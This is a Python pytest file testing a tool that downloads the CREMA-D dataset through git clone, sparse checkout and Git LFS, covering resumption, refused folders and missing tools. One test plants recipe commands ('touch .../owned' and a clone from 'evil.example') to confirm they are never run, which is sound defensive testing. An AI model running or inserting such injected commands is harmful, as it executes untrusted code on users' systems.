"""Fetching CREMA-D unattended: which commands run, going on where it stopped, and what is never run."""

import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from crema_factory import shipped_recipe, write_recipe

from inforeg_cli import paths
from inforeg_cli.data.preparing.download import download
from inforeg_cli.data.recipe_file import load
from inforeg_cli.errors import InforegError, Misuse

URL = "https://github.com/CheyneyComputerScience/CREMA-D.git"
GIT = shutil.which("git")

#: Records its arguments; clones, checks out and pulls in name only; fails, or waits for ever, at the command it is told.
FAKE_GIT = f"""#!{sys.executable}
import json, os, pathlib, signal, sys, time
arguments = sys.argv[1:]
calls = pathlib.Path(os.environ["CALLS"])
folder, verb = (pathlib.Path(arguments[1]), arguments[2]) if arguments[0] == "-C" else (None, arguments[0])
if verb in ("config", "rev-parse", "lfs") and "pull" not in arguments and "install" not in arguments:
    if verb == "lfs":
        sys.exit(0 if arguments == ["lfs", "version"] and not os.environ.get("NO_LFS") else 1)
    if verb == "rev-parse":
        sys.exit(0 if (folder / ".git" / "commit").exists() else 1)
    try:
        print((folder / ".git" / "url").read_text())
    except FileNotFoundError:
        sys.exit(1)
    sys.exit(0)
with calls.open("a") as handle:
    handle.write(json.dumps(arguments) + "\\n")
if verb == "clone":
    folder = pathlib.Path(arguments[-1])
    (folder / ".git").mkdir(parents=True)
    (folder / ".git" / "url").write_text(arguments[-2])
def tidy(number, frame):
    time.sleep(0.5)
    with calls.open("a") as handle:
        handle.write(json.dumps(["tidied up"]) + "\\n")
    sys.exit(1)


if os.environ.get("WAIT") in arguments:
    signal.signal(signal.SIGTERM, tidy)
    (calls.parent / "waiting").touch()
    time.sleep(60)
stop = os.environ.get("STOP")
if stop in arguments:
    print("some error of git's", file=sys.stderr)
    sys.exit(128)
if verb == "clone":
    (folder / ".git" / "commit").write_text("")
if verb == "checkout":
    (folder / ".git" / "index").write_text("")
    (folder / "AudioWAV").mkdir()
"""


@pytest.fixture
def calls(tmp_path: Path, monkeypatch):
    """`calls()`: what the fake git was asked to do since, one line a command."""
    folder = tmp_path / "bin"
    folder.mkdir()
    (folder / "git").write_text(FAKE_GIT)
    (folder / "git").chmod(0o755)
    log = tmp_path / "calls"
    monkeypatch.setenv("PATH", str(folder))
    monkeypatch.setenv("CALLS", str(log))

    def since() -> list[list[str]]:
        lines = log.read_text().splitlines() if log.exists() else []
        log.unlink(missing_ok=True)
        return [json.loads(line) for line in lines]

    return since


@pytest.fixture
def raw(tmp_path: Path) -> Path:
    return tmp_path / "data sets" / "raw"


def fetch(raw: Path, recipe: Path | None = None) -> list[str]:
    said: list[str] = []
    download(load(recipe or shipped_recipe()), raw, said.append)
    return said


def steps(raw: Path) -> list[list[str]]:
    return [
        ["clone", "--filter=blob:none", "--no-checkout", "--depth", "1", URL, str(raw)],
        ["-C", str(raw), "lfs", "install", "--local", "--skip-smudge"],
        ["-C", str(raw), "sparse-checkout", "set", "AudioWAV", "VideoFlash"],
        ["-C", str(raw), "checkout"],
        ["-C", str(raw), "lfs", "pull", "--include", "AudioWAV,VideoFlash"],
    ]


def test_the_shipped_commands_run_in_their_order_and_are_told(raw, calls):
    said = fetch(raw)
    assert calls() == steps(raw)
    assert said[0].startswith("git clone ") and said[0].endswith(f"'{raw}'") and len(said) == 5


@pytest.mark.parametrize(
    ("stop", "again"),
    [
        ("clone", [0, 1, 2, 3, 4]),
        ("install", [1, 2, 3, 4]),
        ("sparse-checkout", [1, 2, 3, 4]),
        ("checkout", [1, 2, 3, 4]),
        ("pull", [1, 4]),
    ],
)
def test_a_second_call_goes_on_where_the_first_stopped(raw, calls, monkeypatch, stop, again):
    monkeypatch.setenv("STOP", stop)
    with pytest.raises(InforegError, match=r"failed with exit code 128: call again to go on"):
        fetch(raw)
    assert stop in calls()[-1]
    monkeypatch.delenv("STOP")
    fetch(raw)
    assert calls() == [steps(raw)[index] for index in again]
    fetch(raw)
    assert calls() == [steps(raw)[1], steps(raw)[4]], "what is complete is only asked for recordings that lack"


def test_an_empty_folder_is_cloned_into(raw, calls):
    raw.mkdir(parents=True)
    fetch(raw)
    assert calls() == steps(raw)


def test_a_folder_with_something_else_is_refused_and_left_alone(raw, calls):
    raw.mkdir(parents=True)
    (raw / "thesis.txt").write_text("mine")
    with pytest.raises(Misuse, match="holds something other than a clone of"):
        fetch(raw)
    (raw / ".git").mkdir()
    with pytest.raises(Misuse, match="holds something other than a clone of"):
        fetch(raw)
    assert (raw / "thesis.txt").read_text() == "mine" and (raw / ".git").is_dir()
    assert not calls()


def test_another_repository_is_refused_and_left_alone(raw, calls):
    (raw / ".git").mkdir(parents=True)
    (raw / ".git" / "url").write_text("https://example.org/other.git")
    for _ in range(2):  # without a commit, and with one
        with pytest.raises(Misuse, match="holds something other than a clone of"):
            fetch(raw)
        (raw / ".git" / "commit").write_text("")
    assert (raw / ".git" / "url").is_file()
    assert not calls()


def test_a_clone_under_the_same_address_without_its_ending_is_that_clone(raw, calls):
    (raw / ".git").mkdir(parents=True)
    (raw / ".git" / "url").write_text(URL.removesuffix(".git"))
    (raw / ".git" / "commit").write_text("")
    fetch(raw)
    assert calls() == steps(raw)[1:]


def test_when_it_is_interrupted_git_may_tidy_up(raw, calls, monkeypatch, tmp_path):
    monkeypatch.setenv("WAIT", "pull")

    def interrupt() -> None:
        while not (tmp_path / "waiting").exists():
            time.sleep(0.02)
        os.kill(os.getpid(), signal.SIGINT)

    # A suite that was started in the background inherits that Ctrl-C is ignored, and so would the stand-in for git.
    before = signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        threading.Thread(target=interrupt, daemon=True).start()
        with pytest.raises(KeyboardInterrupt):
            fetch(raw)
    finally:
        signal.signal(signal.SIGINT, before)
    assert calls() == [*steps(raw), ["tidied up"]]


def test_a_lock_that_a_killed_git_left_is_named(raw, calls, monkeypatch):
    fetch(raw)
    (raw / ".git" / "index.lock").write_text("")
    monkeypatch.setenv("STOP", "pull")
    with pytest.raises(InforegError, match=r"if no other git is at work there, remove .*index\.lock"):
        fetch(raw)


def test_a_recipe_from_elsewhere_makes_nothing_of_its_own_run(raw, calls, tmp_path):
    mine = write_recipe(tmp_path / "mine.toml")
    text = mine.read_text()
    start, end = text.index("get = ["), text.index("]", text.index("get = ["))
    mine.write_text(
        f"{text[:start]}get = ['touch {tmp_path}/owned', 'git clone https://evil.example/x.git RAW'{text[end:]}"
    )
    assert "evil.example" in load(mine).get[1]
    fetch(raw, mine)
    assert calls() == steps(raw)
    assert not (tmp_path / "owned").exists()


def test_a_dataset_without_an_unattended_way_says_how_to_get_it(raw, calls, tmp_path):
    recipe = tmp_path / "recipe.toml"
    recipe.write_text(
        'name = "mine"\norigin = "the archive"\nlicence = "on request"\nget = ["fill in a form"]\n'
        '[modalities.sound]\nkind = "audio"\nsample_rate = 8000\nseconds = 1\n'
    )
    with pytest.raises(Misuse) as caught:
        fetch(raw, recipe)
    assert "mine cannot be fetched unattended" in str(caught.value)
    assert "the archive" in str(caught.value) and "fill in a form" in str(caught.value)
    with pytest.raises(Misuse, match=r"digits cannot be fetched unattended[^\0]*nothing to download"):
        fetch(raw, paths.shipped("datasets") / "digits" / "recipe.toml")
    assert not calls()


def test_what_is_not_installed_is_named(raw, calls, monkeypatch):
    monkeypatch.setenv("NO_LFS", "1")
    with pytest.raises(InforegError, match=r"^Git LFS is needed and not installed: .*git-lfs[^\n]*$"):
        fetch(raw)
    monkeypatch.setenv("PATH", "")
    with pytest.raises(InforegError, match=r"^git is needed and not installed: [^\n]*$"):
        fetch(raw)
    assert not raw.exists()


def test_a_place_that_cannot_be_written_is_told_in_one_line(raw, calls, tmp_path):
    (tmp_path / "data sets").write_text("a file")
    with pytest.raises(InforegError, match=r"^cannot download to [^\n]*$"):
        fetch(raw)


#: Stands for Git LFS: every pointer in the working tree becomes the recording that lies in the folder OBJECTS.
FAKE_LFS = f"""#!{sys.executable}
import os, pathlib, sys
if sys.argv[1] == "pull":
    for path in pathlib.Path.cwd().glob("[AV]*/*.*"):
        path.write_bytes(pathlib.Path(os.environ["OBJECTS"], path.name).read_bytes())
"""


@pytest.mark.skipif(GIT is None, reason="there is no git here")
def test_a_real_clone_holds_the_two_folders_alone(raw, tmp_path, monkeypatch):
    origin, objects = tmp_path / "origin", tmp_path / "objects"
    objects.mkdir()
    for folder, suffix in (("AudioWAV", "wav"), ("VideoFlash", "flv"), ("AudioMP3", "mp3")):
        (origin / folder).mkdir(parents=True)
        for number in range(5):
            (origin / folder / f"{number}.{suffix}").write_text(f"version of {number}")
            (objects / f"{number}.{suffix}").write_text(f"recording {number}")
    identity = ("-c", "user.name=test", "-c", "user.email=test@example.org")
    for command in (
        ("init", "-q"),
        ("add", "-A"),
        (*identity, "commit", "-qm", "x"),
        ("config", "uploadpack.allowFilter", "1"),
    ):
        subprocess.run([GIT, "-C", str(origin), *command], check=True)
    lfs = tmp_path / "bin" / "git-lfs"
    lfs.parent.mkdir()
    lfs.write_text(FAKE_LFS)
    lfs.chmod(0o755)
    monkeypatch.setenv("PATH", f"{lfs.parent}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("OBJECTS", str(objects))
    shipped = tmp_path / "shipped"
    recipe = write_recipe(shipped / "crema-d" / "recipe.toml")
    recipe.write_text(recipe.read_text().replace(URL, origin.resolve().as_uri()))
    monkeypatch.setattr(paths, "shipped", lambda what: shipped)

    # What a clone that was killed leaves: a repository without a commit.
    subprocess.run([GIT, "init", "-q", str(raw)], check=True)
    subprocess.run([GIT, "-C", str(raw), "config", "remote.origin.url", origin.resolve().as_uri()], check=True)
    assert len(fetch(raw, recipe)) == 5
    assert sorted(path.name for path in raw.iterdir()) == [".git", "AudioWAV", "VideoFlash"]
    assert (raw / "AudioWAV" / "3.wav").read_text() == "recording 3"
    assert (raw / "VideoFlash" / "4.flv").read_text() == "recording 4"

    # As after a checkout that was killed: files, and no index yet.
    (raw / ".git" / "index").unlink()
    (raw / "AudioWAV" / "3.wav").write_text("half")
    (raw / "AudioWAV" / "4.wav").unlink()
    assert len(fetch(raw, recipe)) == 4
    assert (raw / "AudioWAV" / "3.wav").read_text() == "recording 3" and (raw / "AudioWAV" / "4.wav").is_file()
    assert len(fetch(raw, recipe)) == 2
